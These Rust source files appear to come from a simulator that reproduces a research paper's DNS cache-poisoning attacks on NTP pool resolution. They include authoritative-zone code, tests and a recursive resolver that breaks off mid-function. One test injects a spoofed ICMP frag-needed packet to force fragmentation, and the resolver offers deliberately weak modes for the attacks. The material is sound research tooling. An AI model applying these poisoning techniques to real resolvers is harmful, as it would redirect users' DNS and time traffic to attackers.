            if let Some(StackEvent::Udp { datagram, .. }) = self.stack.handle(ctx, pkt) {
                self.response = Message::decode(&datagram.payload).ok();
            }
        }
        fn as_any(&self) -> &dyn std::any::Any {
            self
        }
        fn as_any_mut(&mut self) -> &mut dyn std::any::Any {
            self
        }
    }

    fn pool_name() -> Name {
        "pool.ntp.org".parse().unwrap()
    }

    fn run_probe(query: Message, zones: Vec<Zone>) -> (Option<Message>, AuthServerStats) {
        let server_addr = Ipv4Addr::new(203, 0, 113, 53);
        let probe_addr = Ipv4Addr::new(198, 51, 100, 10);
        let mut world = World::new(42);
        let server = world.add_node(
            "auth",
            Box::new(AuthServer::new(server_addr, zones)),
            &[server_addr],
        );
        let probe = world.add_node(
            "probe",
            Box::new(Probe::new(probe_addr, server_addr, query)),
            &[probe_addr],
        );
        world.run_for(SimDuration::from_secs(2));
        let stats = world.node::<AuthServer>(server).stats();
        (world.node::<Probe>(probe).response.clone(), stats)
    }

    #[test]
    fn answers_pool_query_with_four_addrs() {
        let query = Message::query(0x1111, Question::a(pool_name())).with_edns(4096);
        let (resp, stats) = run_probe(query, vec![pool_ntp_zone(96, 4)]);
        let resp = resp.expect("got response");
        assert_eq!(resp.id, 0x1111);
        assert!(resp.flags.response && resp.flags.authoritative);
        assert_eq!(resp.answer_addrs().len(), 4);
        assert_eq!(resp.authorities.len(), 4);
        assert_eq!(stats.queries, 1);
        assert_eq!(stats.responses, 1);
    }

    #[test]
    fn nxdomain_for_missing_name() {
        let query = Message::query(1, Question::a("nope.pool.ntp.org".parse().unwrap()));
        let (resp, stats) = run_probe(query, vec![pool_ntp_zone(96, 4)]);
        assert_eq!(resp.unwrap().rcode(), Rcode::NxDomain);
        assert_eq!(stats.nxdomain, 1);
    }

    #[test]
    fn refused_for_foreign_zone() {
        let query = Message::query(1, Question::a("other.example".parse().unwrap()));
        let (resp, stats) = run_probe(query, vec![pool_ntp_zone(96, 4)]);
        assert_eq!(resp.unwrap().rcode(), Rcode::Refused);
        assert_eq!(stats.refused, 1);
    }

    #[test]
    fn non_edns_clients_get_classic_limit() {
        // 14 nameservers inflate the response well past 512 bytes.
        let query = Message::query(2, Question::a(pool_name()));
        let (resp, stats) = run_probe(query, vec![pool_ntp_zone(96, 14)]);
        let resp = resp.unwrap();
        assert!(resp.encoded_len() <= CLASSIC_UDP_LIMIT);
        // Glue was sacrificed first; the four answers survive.
        assert_eq!(resp.answer_addrs().len(), 4);
        assert_eq!(stats.truncated, 0, "dropping glue is not truncation");
    }

    #[test]
    fn edns_clients_get_large_responses() {
        let query = Message::query(3, Question::a(pool_name())).with_edns(4096);
        let (resp, _) = run_probe(query, vec![pool_ntp_zone(96, 14)]);
        let resp = resp.unwrap();
        assert_eq!(resp.authorities.len(), 14);
        assert_eq!(
            resp.additionals.len(),
            15,
            "14 glue records + the OPT record"
        );
        assert!(resp.encoded_len() > CLASSIC_UDP_LIMIT);
    }

    #[test]
    fn forced_small_pmtu_fragments_the_response() {
        // The attack precondition (paper §II): after PMTU poisoning the
        // nameserver fragments its responses down to 548 bytes.
        let server_addr = Ipv4Addr::new(203, 0, 113, 53);
        let probe_addr = Ipv4Addr::new(198, 51, 100, 10);
        let mut world = World::new(7);
        let query = Message::query(4, Question::a(pool_name())).with_edns(4096);
        let server = world.add_node(
            "auth",
            Box::new(AuthServer::new(server_addr, vec![pool_ntp_zone(96, 14)])),
            &[server_addr],
        );
        // Spoofed ICMP frag-needed lands before the query flow starts.
        let icmp = netsim::icmp::IcmpMessage::FragmentationNeeded {
            mtu: 548,
            original: netsim::icmp::QuotedPacket {
                src: server_addr,
                dst: probe_addr,
                proto: netsim::ip::IpProto::Udp,
                head: [0; 8],
            },
        }
        .into_packet(Ipv4Addr::new(6, 6, 6, 6), server_addr);
        world.inject(server, icmp);
        world.run_for(SimDuration::from_secs(1));
        let probe = world.add_node(
            "probe",
            Box::new(Probe::new(probe_addr, server_addr, query)),
            &[probe_addr],
        );
        world.run_for(SimDuration::from_secs(2));
        assert_eq!(
            world.node::<AuthServer>(server).stack().pmtu(probe_addr),
            548
        );
        let fragments = world
            .trace()
            .count(|e| e.src == server_addr && e.more_fragments);
        assert!(fragments >= 1, "response must be fragmented");
        // And the probe still reassembles it fine.
        let resp = world.node::<Probe>(probe).response.clone().unwrap();
        assert_eq!(resp.answer_addrs().len(), 4);
    }

    #[test]
    fn ignores_responses_and_non_dns_ports() {
        let server_addr = Ipv4Addr::new(203, 0, 113, 53);
        let mut world = World::new(8);
        let server = world.add_node(
            "auth",
            Box::new(AuthServer::new(server_addr, vec![pool_ntp_zone(8, 2)])),
            &[server_addr],
        );
        // A response-flagged message must not be answered.
        let mut msg = Message::query(5, Question::a(pool_name()));
        msg.flags.response = true;
        let probe_addr = Ipv4Addr::new(198, 51, 100, 11);
        let probe = world.add_node(
            "probe",
            Box::new(Probe::new(probe_addr, server_addr, msg)),
            &[probe_addr],
        );
        world.run_for(SimDuration::from_secs(1));
        assert_eq!(world.node::<AuthServer>(server).stats().queries, 0);
        assert!(world.node::<Probe>(probe).response.is_none());
        // Garbage to a non-DNS port is ignored too.
        let garbage =
            UdpDatagram::new(1, 9999, Bytes::from_static(b"junk")).encode(probe_addr, server_addr);
        let pkt = Ipv4Packet::new(probe_addr, server_addr, IpProto::Udp, garbage);
        world.inject(probe, pkt);
        world.run_for(SimDuration::from_secs(1));
        assert_eq!(world.node::<AuthServer>(server).stats().queries, 0);
    }
}
