//! Authoritative zone data, including pool-style rotating answer sets.
//!
//! The `pool.ntp.org` zone answers every A query with a small rotating
//! subset of a large server universe — the behaviour Chronos' pool
//! generation leans on (4 addresses per response, 150 s TTL).

use crate::name::Name;
use crate::wire::{Question, RData, Record, RecordType};
use serde::{Deserialize, Serialize};
use std::net::Ipv4Addr;

/// TTL pool.ntp.org uses for its A records.
pub const POOL_NTP_TTL: u32 = 150;

/// Addresses per pool.ntp.org response.
pub const POOL_ADDRS_PER_RESPONSE: usize = 4;

/// A rotating answer set (round-robin over a server universe).
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct Rotation {
    /// The full universe of addresses.
    pub addrs: Vec<Ipv4Addr>,
    /// How many addresses each response carries.
    pub per_response: usize,
    /// TTL on the rotating records.
    pub ttl: u32,
    cursor: usize,
}

impl Rotation {
    /// Creates a rotation serving `per_response` of `addrs` per query.
    ///
    /// # Panics
    ///
    /// Panics if `addrs` is empty or `per_response` is zero.
    pub fn new(addrs: Vec<Ipv4Addr>, per_response: usize, ttl: u32) -> Self {
        assert!(!addrs.is_empty(), "rotation needs at least one address");
        assert!(per_response > 0, "rotation must serve at least one address");
        Rotation {
            addrs,
            per_response,
            ttl,
            cursor: 0,
        }
    }

    /// Rewinds the rotation to its starting position (world-reuse support).
    pub fn reset(&mut self) {
        self.cursor = 0;
    }

    /// The next batch of addresses (advances the cursor).
    pub fn next_batch(&mut self) -> Vec<Ipv4Addr> {
        let n = self.per_response.min(self.addrs.len());
        let mut out = Vec::with_capacity(n);
        for _ in 0..n {
            out.push(self.addrs[self.cursor]);
            self.cursor = (self.cursor + 1) % self.addrs.len();
        }
        out
    }
}

/// The outcome of a zone lookup: the sections of the eventual response.
#[derive(Debug, Clone, PartialEq, Eq, Default)]
pub struct ZoneAnswer {
    /// Answer records.
    pub answers: Vec<Record>,
    /// Authority records (NS on success, SOA on NXDOMAIN).
    pub authorities: Vec<Record>,
    /// Additional records (glue).
    pub additionals: Vec<Record>,
    /// `true` when the name does not exist in the zone.
    pub nxdomain: bool,
}

/// An authoritative zone.
#[derive(Debug, Clone)]
pub struct Zone {
    origin: Name,
    ns: Vec<(Name, Ipv4Addr)>,
    records: Vec<Record>,
    rotation: Option<Rotation>,
    ns_ttl: u32,
    /// Whether positive answers carry the NS set + glue. Real pool zones do;
    /// it is also what inflates responses past small MTUs.
    include_authority: bool,
    /// Marker used by the measurement study (no cryptography modelled).
    signed: bool,
}

impl Zone {
    /// Creates an empty zone rooted at `origin`.
    pub fn new(origin: Name) -> Self {
        Zone {
            origin,
            ns: Vec::new(),
            records: Vec::new(),
            rotation: None,
            ns_ttl: 3600,
            include_authority: true,
            signed: false,
        }
    }

    /// The zone origin.
    pub fn origin(&self) -> &Name {
        &self.origin
    }

    /// Adds a nameserver (name + glue address). Returns `self` for chaining.
    pub fn with_ns(mut self, ns_name: Name, glue: Ipv4Addr) -> Self {
        self.ns.push((ns_name, glue));
        self
    }

    /// Adds `count` synthetic nameservers `ns1..nsN.<origin>` with glue in
    /// `glue_base + i`.
    pub fn with_synthetic_ns(mut self, count: usize, glue_base: Ipv4Addr) -> Self {
        let base = u32::from(glue_base);
        for i in 0..count {
            let name = self
                .origin
                .prepend(&format!("ns{}", i + 1))
                .expect("synthetic ns label is valid");
            self.ns.push((name, Ipv4Addr::from(base + i as u32)));
        }
        self
    }

    /// Adds a static record. Returns `self` for chaining.
    pub fn with_record(mut self, record: Record) -> Self {
        self.records.push(record);
        self
    }

    /// Installs a rotating answer set at the origin. Returns `self`.
    pub fn with_rotation(mut self, rotation: Rotation) -> Self {
        self.rotation = Some(rotation);
        self
    }

    /// Controls whether positive answers include NS + glue.
    pub fn with_authority_sections(mut self, include: bool) -> Self {
        self.include_authority = include;
        self
    }

    /// Marks the zone as DNSSEC-signed (study metadata only).
    pub fn with_signed(mut self, signed: bool) -> Self {
        self.signed = signed;
        self
    }

    /// Whether the zone is marked signed.
    pub fn is_signed(&self) -> bool {
        self.signed
    }

    /// The nameserver set (names and glue addresses).
    pub fn nameservers(&self) -> &[(Name, Ipv4Addr)] {
        &self.ns
    }

    /// `true` if `name` belongs to this zone.
    pub fn contains(&self, name: &Name) -> bool {
        name.is_subdomain_of(&self.origin)
    }

    /// Rewinds run state (the rotation cursor) to the freshly-built zone
    /// (world-reuse support); records and delegations are untouched.
    pub fn reset(&mut self) {
        if let Some(rot) = &mut self.rotation {
            rot.reset();
        }
    }

    /// Answers a question. Advances the rotation cursor on rotating hits.
    pub fn answer(&mut self, q: &Question) -> ZoneAnswer {
        let mut out = ZoneAnswer::default();
        if !self.contains(&q.name) {
            out.nxdomain = true;
            return out;
        }
        // Rotating set at the origin.
        if q.qtype == RecordType::A && q.name == self.origin {
            if let Some(rot) = &mut self.rotation {
                let ttl = rot.ttl;
                for addr in rot.next_batch() {
                    out.answers.push(Record::a(q.name.clone(), addr, ttl));
                }
            }
        }
        // NS queries at the origin.
        if q.qtype == RecordType::Ns && q.name == self.origin {
            for (ns_name, _) in &self.ns {
                out.answers.push(Record {
                    name: self.origin.clone(),
                    ttl: self.ns_ttl,
                    rdata: RData::Ns(ns_name.clone()),
                });
            }
        }
        // Glue A queries for the nameservers themselves.
        if q.qtype == RecordType::A {
            for (ns_name, glue) in &self.ns {
                if *ns_name == q.name {
                    out.answers
                        .push(Record::a(q.name.clone(), *glue, self.ns_ttl));
                }
            }
        }
        // Static records.
        for r in &self.records {
            if r.name == q.name && (r.rtype() == q.qtype || r.rtype() == RecordType::Cname) {
                out.answers.push(r.clone());
            }
        }
        if out.answers.is_empty() {
            out.nxdomain = true;
            out.authorities.push(self.soa_record());
            return out;
        }
        if self.include_authority {
            for (ns_name, glue) in &self.ns {
                out.authorities.push(Record {
                    name: self.origin.clone(),
                    ttl: self.ns_ttl,
                    rdata: RData::Ns(ns_name.clone()),
                });
                out.additionals
                    .push(Record::a(ns_name.clone(), *glue, self.ns_ttl));
            }
        }
        out
    }

    fn soa_record(&self) -> Record {
        let mname = self
            .ns
            .first()
            .map(|(n, _)| n.clone())
            .unwrap_or_else(|| self.origin.clone());
        Record {
            name: self.origin.clone(),
            ttl: 300,
            rdata: RData::Soa {
                mname,
                rname: self
                    .origin
                    .prepend("hostmaster")
                    .unwrap_or_else(|_| self.origin.clone()),
                serial: 20201016, // 2020-10-16, the paper's arXiv date
                refresh: 7200,
                retry: 3600,
                expire: 1_209_600,
                minimum: 300,
            },
        }
    }
}

/// Builds the simulated `pool.ntp.org` zone: `universe` rotating NTP server
/// addresses (4 per response, TTL 150 s) behind `ns_count` nameservers.
///
/// NTP server addresses are `10.32.0.0/16`-ish starting at `10.32.0.1`;
/// nameserver glue lives in `203.0.113.0/24`.
pub fn pool_ntp_zone(universe: usize, ns_count: usize) -> Zone {
    let origin: Name = "pool.ntp.org".parse().expect("static name");
    let addrs: Vec<Ipv4Addr> = (0..universe as u32)
        .map(|i| Ipv4Addr::from(u32::from(Ipv4Addr::new(10, 32, 0, 1)) + i))
        .collect();
    Zone::new(origin)
        .with_synthetic_ns(ns_count, Ipv4Addr::new(203, 0, 113, 1))
        .with_rotation(Rotation::new(addrs, POOL_ADDRS_PER_RESPONSE, POOL_NTP_TTL))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn q(name: &str, qtype: RecordType) -> Question {
        Question {
            name: name.parse().unwrap(),
            qtype,
        }
    }

    #[test]
    fn rotation_round_robins_without_repeats_until_wrap() {
        let addrs: Vec<Ipv4Addr> = (1..=10u8).map(|i| Ipv4Addr::new(10, 0, 0, i)).collect();
        let mut rot = Rotation::new(addrs.clone(), 4, 150);
        let mut seen = Vec::new();
        for _ in 0..5 {
            seen.extend(rot.next_batch());
        }
        assert_eq!(seen.len(), 20);
        // First 10 are the universe in order, then it wraps.
        assert_eq!(&seen[..10], &addrs[..]);
        assert_eq!(&seen[10..20], &addrs[..]);
    }

    #[test]
    fn pool_zone_answers_four_fresh_addrs_per_query() {
        let mut zone = pool_ntp_zone(96, 4);
        let q1 = zone.answer(&q("pool.ntp.org", RecordType::A));
        let q2 = zone.answer(&q("pool.ntp.org", RecordType::A));
        assert_eq!(q1.answers.len(), 4);
        assert_eq!(q2.answers.len(), 4);
        let a1: Vec<_> = q1.answers.iter().filter_map(Record::as_a).collect();
        let a2: Vec<_> = q2.answers.iter().filter_map(Record::as_a).collect();
        assert!(a1.iter().all(|a| !a2.contains(a)), "fresh batch each time");
        assert!(q1.answers.iter().all(|r| r.ttl == POOL_NTP_TTL));
    }

    #[test]
    fn twenty_four_queries_yield_ninety_six_distinct_servers() {
        let mut zone = pool_ntp_zone(400, 4);
        let mut all = Vec::new();
        for _ in 0..24 {
            let ans = zone.answer(&q("pool.ntp.org", RecordType::A));
            all.extend(ans.answers.iter().filter_map(Record::as_a));
        }
        all.sort();
        all.dedup();
        assert_eq!(all.len(), 96, "paper: 24 hourly queries x 4 = 96 servers");
    }

    #[test]
    fn positive_answers_carry_ns_and_glue() {
        let mut zone = pool_ntp_zone(96, 4);
        let ans = zone.answer(&q("pool.ntp.org", RecordType::A));
        assert_eq!(ans.authorities.len(), 4);
        assert_eq!(ans.additionals.len(), 4);
        assert!(ans
            .authorities
            .iter()
            .all(|r| matches!(r.rdata, RData::Ns(_))));
        assert!(ans.additionals.iter().all(|r| r.as_a().is_some()));
    }

    #[test]
    fn authority_sections_can_be_disabled() {
        let mut zone = pool_ntp_zone(96, 4).with_authority_sections(false);
        let ans = zone.answer(&q("pool.ntp.org", RecordType::A));
        assert!(ans.authorities.is_empty());
        assert!(ans.additionals.is_empty());
    }

    #[test]
    fn glue_queries_answered_directly() {
        let mut zone = pool_ntp_zone(96, 4);
        let ans = zone.answer(&q("ns1.pool.ntp.org", RecordType::A));
        assert_eq!(ans.answers.len(), 1);
        assert_eq!(ans.answers[0].as_a(), Some(Ipv4Addr::new(203, 0, 113, 1)));
    }

    #[test]
    fn ns_query_lists_nameservers() {
        let mut zone = pool_ntp_zone(96, 3);
        let ans = zone.answer(&q("pool.ntp.org", RecordType::Ns));
        assert_eq!(ans.answers.len(), 3);
    }

    #[test]
    fn out_of_zone_and_missing_names() {
        let mut zone = pool_ntp_zone(96, 4);
        let foreign = zone.answer(&q("example.com", RecordType::A));
        assert!(foreign.nxdomain);
        let missing = zone.answer(&q("nope.pool.ntp.org", RecordType::A));
        assert!(missing.nxdomain);
        assert!(
            matches!(missing.authorities[0].rdata, RData::Soa { .. }),
            "negative answers carry the SOA"
        );
    }

    #[test]
    fn static_records_and_mx() {
        let origin: Name = "victim.example".parse().unwrap();
        let mut zone = Zone::new(origin.clone())
            .with_ns(
                "ns1.victim.example".parse().unwrap(),
                Ipv4Addr::new(9, 9, 9, 9),
            )
            .with_record(Record {
                name: origin.clone(),
                ttl: 300,
                rdata: RData::Mx {
                    preference: 10,
                    exchange: "mail.victim.example".parse().unwrap(),
                },
            })
            .with_record(Record::a(
                "mail.victim.example".parse().unwrap(),
                Ipv4Addr::new(10, 9, 9, 1),
                300,
            ));
        let mx = zone.answer(&q("victim.example", RecordType::Mx));
        assert_eq!(mx.answers.len(), 1);
        let a = zone.answer(&q("mail.victim.example", RecordType::A));
        assert_eq!(a.answers[0].as_a(), Some(Ipv4Addr::new(10, 9, 9, 1)));
    }

    #[test]
    fn signed_flag_is_metadata() {
        let zone = pool_ntp_zone(4, 1).with_signed(true);
        assert!(zone.is_signed());
    }
}
