//! The caching recursive resolver — the component the attacks poison.
//!
//! Faithful to the parts of resolver behaviour the paper's attacks interact
//! with:
//!
//! * **TXID and source-port randomization** (configurable down to the weak
//!   fixed-port / sequential-txid modes the Kaminsky baseline needs);
//! * **response validation**: source address, port, TXID and question must
//!   all match the in-flight query;
//! * **bailiwick filtering**: out-of-zone records are discarded;
//! * **TTL-honouring cache**, including caching of in-bailiwick glue — which
//!   is exactly what the defragmentation attack overwrites to become the
//!   zone's nameserver;
//! * **nameserver selection that prefers learned (cached) glue over the
//!   bootstrap hints**, so a poisoned glue record redirects future queries
//!   to the attacker.

use crate::cache::{CacheKey, DnsCache};
use crate::name::Name;
use crate::server::DNS_PORT;
use crate::wire::{Message, Question, Rcode, RcodeField, Record};
use netsim::ip::Ipv4Packet;
use netsim::node::{Context, Node};
use netsim::stack::{IpStack, StackConfig, StackEvent};
use netsim::time::SimDuration;
use rand::Rng;
use serde::{Deserialize, Serialize};
use std::any::Any;
use std::collections::HashMap;
use std::net::Ipv4Addr;

/// How the resolver picks source ports for upstream queries.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
pub enum SourcePortPolicy {
    /// One fixed port (pre-Kaminsky behaviour; trivially guessable).
    Fixed(u16),
    /// Uniformly random in `[lo, hi]`.
    Random {
        /// Lowest port used.
        lo: u16,
        /// Highest port used.
        hi: u16,
    },
}

impl Default for SourcePortPolicy {
    fn default() -> Self {
        SourcePortPolicy::Random {
            lo: 1024,
            hi: 65535,
        }
    }
}

/// Resolver behaviour knobs.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
pub struct ResolverConfig {
    /// Source-port allocation for upstream queries.
    pub source_ports: SourcePortPolicy,
    /// Random TXIDs (`false` = sequential, the historic weakness).
    pub random_txid: bool,
    /// EDNS buffer size advertised upstream (None = no EDNS).
    pub edns_advertise: Option<u16>,
    /// Upstream query timeout.
    pub query_timeout: SimDuration,
    /// Retries after the first timeout before SERVFAIL.
    pub max_retries: u32,
    /// Whether queries from unknown clients are served (open resolver).
    pub open: bool,
    /// Whether out-of-bailiwick records are rejected.
    pub bailiwick_check: bool,
}

impl Default for ResolverConfig {
    fn default() -> Self {
        ResolverConfig {
            source_ports: SourcePortPolicy::default(),
            random_txid: true,
            edns_advertise: Some(4096),
            query_timeout: SimDuration::from_secs(2),
            max_retries: 2,
            open: false,
            bailiwick_check: true,
        }
    }
}

/// A zone the resolver knows how to reach: its delegation.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct Upstream {
    /// The zone apex.
    pub zone: Name,
    /// Names of the zone's authoritative servers (their cached A records,
    /// once learned, take precedence over `bootstrap`).
    pub ns_names: Vec<Name>,
    /// Bootstrap addresses used until glue is learned.
    pub bootstrap: Vec<Ipv4Addr>,
}

/// Counters describing resolver activity.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq, Serialize, Deserialize)]
pub struct ResolverStats {
    /// Client queries received.
    pub client_queries: u64,
    /// Client queries refused by the ACL.
    pub refused_acl: u64,
    /// Client queries answered from cache.
    pub cache_hits: u64,
    /// Upstream queries sent (including retries).
    pub upstream_queries: u64,
    /// Valid upstream responses accepted.
    pub upstream_responses: u64,
    /// Responses rejected: TXID mismatch (possible blind-spoof guesses).
    pub rejected_txid: u64,
    /// Responses rejected: source address mismatch.
    pub rejected_addr: u64,
    /// Responses rejected: question mismatch.
    pub rejected_question: u64,
    /// Records discarded by the bailiwick check.
    pub bailiwick_discards: u64,
    /// Retries performed.
    pub retries: u64,
    /// SERVFAILs returned to clients.
    pub servfails: u64,
}

#[derive(Debug, Clone)]
struct ClientRef {
    addr: Ipv4Addr,
    port: u16,
    txid: u16,
}

#[derive(Debug)]
struct PendingQuery {
    question: Question,
    upstream_idx: usize,
    txid: u16,
    sport: u16,
    ns_addr: Ipv4Addr,
    clients: Vec<ClientRef>,
    retries: u32,
}

/// A caching recursive resolver node.
#[derive(Debug)]
pub struct RecursiveResolver {
    stack: IpStack,
    config: ResolverConfig,
    upstreams: Vec<Upstream>,
    cache: DnsCache,
    allowed_clients: Vec<Ipv4Addr>,
    pending: HashMap<u64, PendingQuery>,
    next_key: u64,
    txid_seq: u16,
    rr_counter: usize,
    stats: ResolverStats,
}

impl RecursiveResolver {
    /// Creates a resolver at `addr` with the given delegations.
    pub fn new(addr: Ipv4Addr, upstreams: Vec<Upstream>) -> Self {
        RecursiveResolver::with_stack_config(addr, upstreams, StackConfig::default())
    }

    /// Creates a resolver with an explicit IP-stack configuration (overlap
    /// policy, fragment filtering — the study/attack knobs).
    pub fn with_stack_config(addr: Ipv4Addr, upstreams: Vec<Upstream>, stack: StackConfig) -> Self {
        RecursiveResolver {
            stack: IpStack::with_config(vec![addr], stack),
            config: ResolverConfig::default(),
            upstreams,
            cache: DnsCache::default(),
            allowed_clients: Vec::new(),
            pending: HashMap::new(),
            next_key: 1,
            txid_seq: 1,
            rr_counter: 0,
            stats: ResolverStats::default(),
        }
    }

    /// Overrides the resolver configuration. Returns `self` for chaining.
    pub fn with_config(mut self, config: ResolverConfig) -> Self {
        self.config = config;
        self
    }

    /// The resolver's address.
    pub fn addr(&self) -> Ipv4Addr {
        self.stack.addr()
    }

    /// Admits `client` through the ACL.
    pub fn allow_client(&mut self, client: Ipv4Addr) {
        if !self.allowed_clients.contains(&client) {
            self.allowed_clients.push(client);
        }
    }

    /// Activity counters.
    pub fn stats(&self) -> ResolverStats {
        self.stats
    }

    /// The cache (e.g. to install a TTL cap or inspect poisoning).
    pub fn cache(&self) -> &DnsCache {
        &self.cache
    }

    /// Mutable cache access.
    pub fn cache_mut(&mut self) -> &mut DnsCache {
        &mut self.cache
    }

    /// The host IP stack (reassembly stats, drop counters).
    pub fn stack(&self) -> &IpStack {
        &self.stack
    }

    /// Number of in-flight upstream queries.
    pub fn pending_queries(&self) -> usize {
        self.pending.len()
    }

    fn upstream_for(&self, name: &Name) -> Option<usize> {
        self.upstreams
            .iter()
            .enumerate()
            .filter(|(_, u)| name.is_subdomain_of(&u.zone))
            .max_by_key(|(_, u)| u.zone.label_count())
            .map(|(i, _)| i)
    }

    /// Picks a nameserver address for an upstream, preferring cached glue
    /// over bootstrap hints (this preference is what the glue-rewrite attack
    /// exploits).
    fn ns_addr_for(&mut self, ctx: &mut Context<'_>, upstream_idx: usize) -> Ipv4Addr {
        let now = ctx.now();
        let ns_names = self.upstreams[upstream_idx].ns_names.clone();
        let mut candidates: Vec<Ipv4Addr> = Vec::new();
        for ns_name in ns_names {
            if let Some(records) = self.cache.get(now, &CacheKey::a(ns_name)) {
                candidates.extend(records.iter().filter_map(Record::as_a));
            }
        }
        if candidates.is_empty() {
            candidates = self.upstreams[upstream_idx].bootstrap.clone();
        }
        assert!(
            !candidates.is_empty(),
            "upstream has neither cached glue nor bootstrap addresses"
        );
        let pick = candidates[self.rr_counter % candidates.len()];
        self.rr_counter += 1;
        pick
    }

    fn alloc_txid(&mut self, ctx: &mut Context<'_>) -> u16 {
        if self.config.random_txid {
            ctx.rng().gen()
        } else {
            let id = self.txid_seq;
            self.txid_seq = self.txid_seq.wrapping_add(1);
            id
        }
    }

    fn alloc_sport(&mut self, ctx: &mut Context<'_>) -> u16 {
        match self.config.source_ports {
            SourcePortPolicy::Fixed(p) => p,
            SourcePortPolicy::Random { lo, hi } => {
                for _ in 0..64 {
                    let p = ctx.rng().gen_range(lo..=hi);
                    let in_use = p == DNS_PORT || self.pending.values().any(|q| q.sport == p);
                    if !in_use {
                        return p;
                    }
                }
                hi
            }
        }
    }

    fn send_upstream(&mut self, ctx: &mut Context<'_>, key: u64) {
        let Some(p) = self.pending.get(&key) else {
            return;
        };
        let (txid, sport, ns_addr, question) = (p.txid, p.sport, p.ns_addr, p.question.clone());
        let mut query = Message::query(txid, question);
        if let Some(size) = self.config.edns_advertise {
            query = query.with_edns(size);
        }
        self.stats.upstream_queries += 1;
        let me = self.stack.addr();
        self.stack
            .send_udp(ctx, me, sport, ns_addr, DNS_PORT, query.encode());
        ctx.set_timer(self.config.query_timeout, key);
    }

    fn handle_client_query(
        &mut self,
        ctx: &mut Context<'_>,
        src: Ipv4Addr,
        src_port: u16,
        query: Message,
    ) {
        let Some(question) = query.question.first().cloned() else {
            return;
        };
        self.stats.client_queries += 1;
        if !self.config.open && !self.allowed_clients.contains(&src) {
            self.stats.refused_acl += 1;
            let mut resp = Message::response_to(&query);
            resp.flags.rcode = RcodeField(Rcode::Refused);
            self.respond(ctx, src, src_port, resp);
            return;
        }
        // Cache first.
        let cache_key = CacheKey {
            name: question.name.clone(),
            rtype: question.qtype,
        };
        if let Some(records) = self.cache.get(ctx.now(), &cache_key) {
            self.stats.cache_hits += 1;
            let mut resp = Message::response_to(&query);
            resp.flags.recursion_available = true;
            resp.answers = records;
            self.respond(ctx, src, src_port, resp);
            return;
        }
        let client = ClientRef {
            addr: src,
            port: src_port,
            txid: query.id,
        };
        // Coalesce with an identical in-flight query.
        if let Some((_, p)) = self
            .pending
            .iter_mut()
            .find(|(_, p)| p.question == question)
        {
            p.clients.push(client);
            return;
        }
        let Some(upstream_idx) = self.upstream_for(&question.name) else {
            self.stats.servfails += 1;
            let mut resp = Message::response_to(&query);
            resp.flags.rcode = RcodeField(Rcode::ServFail);
            self.respond(ctx, src, src_port, resp);
            return;
        };
        let txid = self.alloc_txid(ctx);
        let sport = self.alloc_sport(ctx);
        let ns_addr = self.ns_addr_for(ctx, upstream_idx);
        let key = self.next_key;
        self.next_key += 1;
        self.pending.insert(
            key,
            PendingQuery {
                question,
                upstream_idx,
                txid,
                sport,
                ns_addr,
                clients: vec![client],
                retries: 0,
            },
        );
        self.send_upstream(ctx, key);
    }

    fn handle_upstream_response(
        &mut self,
        ctx: &mut Context<'_>,
        src: Ipv4Addr,
        dst_port: u16,
        msg: Message,
    ) {
        let Some(key) = self
            .pending
            .iter()
            .find(|(_, p)| p.sport == dst_port)
            .map(|(k, _)| *k)
        else {
            return; // No query outstanding on this port.
        };
        {
            let p = &self.pending[&key];
            if msg.id != p.txid {
                self.stats.rejected_txid += 1;
                return;
            }
            if src != p.ns_addr {
                self.stats.rejected_addr += 1;
                return;
            }
            let question_matches = msg
                .question
                .first()
                .map(|q| *q == p.question)
                .unwrap_or(false);
            if !question_matches {
                self.stats.rejected_question += 1;
                return;
            }
        }
        let p = self.pending.remove(&key).expect("checked above");
        self.stats.upstream_responses += 1;
        let zone = self.upstreams[p.upstream_idx].zone.clone();
        let now = ctx.now();

        // Bailiwick filter, then cache by (name, type) groups.
        let mut keep: Vec<&Record> = Vec::new();
        for r in msg
            .answers
            .iter()
            .chain(&msg.authorities)
            .chain(&msg.additionals)
        {
            if matches!(r.rdata, crate::wire::RData::Opt { .. }) {
                continue;
            }
            if self.config.bailiwick_check && !r.name.is_subdomain_of(&zone) {
                self.stats.bailiwick_discards += 1;
                continue;
            }
            keep.push(r);
        }
        let mut groups: HashMap<CacheKey, Vec<Record>> = HashMap::new();
        for r in &keep {
            groups
                .entry(CacheKey {
                    name: r.name.clone(),
                    rtype: r.rtype(),
                })
                .or_default()
                .push((*r).clone());
        }
        for (k, records) in groups {
            self.cache.insert(now, k, &records);
        }

        // Answer the waiting clients with the (filtered) answer section.
        let answers: Vec<Record> = msg
            .answers
            .iter()
            .filter(|r| !self.config.bailiwick_check || r.name.is_subdomain_of(&zone))
            .cloned()
            .collect();
        for c in &p.clients {
            let mut resp = Message {
                id: c.txid,
                flags: crate::wire::Flags {
                    response: true,
                    recursion_available: true,
                    rcode: msg.flags.rcode,
                    ..Default::default()
                },
                question: vec![p.question.clone()],
                answers: answers.clone(),
                authorities: Vec::new(),
                additionals: Vec::new(),
            };
            if msg.flags.rcode.0 != Rcode::NoError {
                resp.answers.clear();
            }
            self.respond(ctx, c.addr, c.port, resp);
        }
    }

    fn respond(&mut self, ctx: &mut Context<'_>, dst: Ipv4Addr, dst_port: u16, resp: Message) {
        let me = self.stack.addr();
        self.stack
            .send_udp(ctx, me, DNS_PORT, dst, dst_port, resp.encode());
    }
}

impl Node for RecursiveResolver {
    fn reset(&mut self) {
        self.stack.reset();
        self.cache.reset(); // keeps the TTL cap; drops learned glue
        self.pending.clear();
        self.next_key = 1;
        self.txid_seq = 1;
        self.rr_counter = 0;
        self.stats = ResolverStats::default();
    }

    fn on_packet(&mut self, ctx: &mut Context<'_>, pkt: Ipv4Packet) {
        let Some(event) = self.stack.handle(ctx, pkt) else {
            return;
        };
        let StackEvent::Udp { src, datagram, .. } = event else {
            return; // ICMP handled inside the stack (PMTU updates).
        };
        let Ok(msg) = Message::decode(&datagram.payload) else {
            return;
        };
        if datagram.dst_port == DNS_PORT && !msg.flags.response {
            self.handle_client_query(ctx, src, datagram.src_port, msg);
        } else if datagram.dst_port != DNS_PORT && msg.flags.response {
